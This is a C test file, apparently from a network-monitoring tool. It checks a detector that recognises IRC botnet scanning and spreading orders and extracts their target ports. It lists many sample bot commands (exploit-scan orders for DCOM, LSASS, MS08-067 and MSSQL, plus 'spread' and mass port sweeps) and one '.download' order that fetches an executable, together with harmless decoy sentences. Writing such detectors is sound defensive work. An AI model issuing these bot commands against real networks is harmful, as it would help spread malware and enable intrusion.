/* SPDX-License-Identifier: GPL-2.0-or-later */
#include "mentions_kit.h"

/* The message is the same whether a person on IRC or a shell tells it. */
static const struct {
    const char *message, *ports; /* NULL: no order */
} orders[] = {
    {".advscan dcom135 200 3 0 -r -s", "135"},
    {"asn139 150 0 -b -r -s", "139"},
    {"xvv asn139 100 5 0 -b", "139"},
    {"!scan 445 100", "445"},
    {"scan 445 100", "445"},
    {".scan.start lsass 200 5 0", "445"},
    {"scan.start", ""},
    {"root.start dcom2 50 3 0", "135"},
    {"scan ssh 22", "22"},
    {".scan ssh 2222", "22 2222"},
    {"spread", ""},
    {".spread on", ""},
    {"root.start", ""},
    {"ntscan", "139 445"},
    {"!portscan 192.0.2.1 1 1024", "1 1024"},
    {"!scan 22,23,2323", "22 23 2323"},
    {".advscan lsass_445 100 5 0 -b", "445"},
    {".advscan lsass1025 100 5 0 -b", "1025"},
    {".advscan asnsmb 100 5 0 -b", "445"},
    {".advscan mssql 100 5 0 x.x.x.x -r", "1433"},
    {".advscan ms08-067 50 3 0 -r", "445"},
    {".asc vnc 50 5 0 -b", "5900"},
    {"dameware 100 5 0 -r", "6129"},
    {"./pscan2 192.0 22", "22"},
    {"masscan -p23,2323 0.0.0.0/0", "23 2323"},
    {"nmap -p 445 192.0.2.0/24", "445"},
    {"!* SCANNER ON", ""},
    {"\2\003"
     "4.scan 135 100\3",
     "135"},
    {"scan the document", NULL},
    {"I will scan the document tomorrow", NULL},
    {"scan 2 documents please", NULL},
    {"!scan me please", NULL},
    {"spread the word", NULL},
    {".scan.stop", NULL},
    {"scan", NULL},
    {"root", NULL},
    {"ssh 22 is open", NULL},
    {"http 200 5 0", NULL},
    {"http 404 not found", NULL},
    {"[SCAN]: Random Port Scan started on 192.0.2.0:445", NULL},
    {"the exploit costs 200 dollars", NULL},
    {"smb 2 was bad", NULL},
    {"we got 3 scans", NULL},
};

static void
check(const char *format, const char *message, const char *ports)
{
    char *text = g_strdup_printf(format, message);
    char *found = mentions_of(DIALOGUE, text, strlen(text));
    char *order = ports == NULL ? NULL : g_strdup_printf("S %s: ", ports);
    const char *at = strstr(found, "S ");

    g_test_message("%s", text);
    if (order == NULL)
        g_assert_cmpstr(at, ==, NULL);
    else if (at == NULL || !g_str_has_prefix(at, order))
        g_error("%s: %s instead of %s", text, found, order);
    g_free(order);
    g_free(found);
    g_free(text);
}

static void
test_messages(void)
{
    static const char *const formats[] = {"%s",
                                          ":n!u@h.example.com PRIVMSG #c :%s\r\n",
                                          ":h.example.com 332 me #c :%s\r\n",
                                          "TOPIC #c :%s\n",
                                          ":n!u@h NOTICE x :%s\n",
                                          ":n!u@h PRIVMSG #c :hi|%s|x y"};

    for (unsigned i = 0; i < G_N_ELEMENTS(orders); i++)
        for (unsigned j = 0; j < G_N_ELEMENTS(formats); j++)
            check(formats[j], orders[i].message, orders[i].ports);
}

static const struct mentions_row rows[] = {
    {DIALOGUE, ":h 332 me #c :.advscan dcom135 200 3 0 -r -s|.download http://a.example/x.exe 1",
     "S 135: .advscan dcom135 200 3 0 -r -s\nH a.example:80/x.exe\n", 0},
    {DIALOGUE, ":n!u@h QUIT :.scan 445 100", "", 0},
    {DIALOGUE, "!scan 1,2,3,4,5", "S 1 2 3 4: !scan 1,2,3,4,5\n", 0},
    {DIALOGUE, "!scan 0 70000", "S : !scan 0 70000\n", 0},
    {PLAIN, "!scan 445 100", "", 0},
};

static void
test_rows(void)
{
    mentions_check(rows, G_N_ELEMENTS(rows));
}

int
main(int argc, char **argv)
{
    g_test_init(&argc, &argv, NULL);
    g_test_add_func("/mentions_orders/messages", test_messages);
    g_test_add_func("/mentions_orders/rows", test_rows);
    return g_test_run();
}
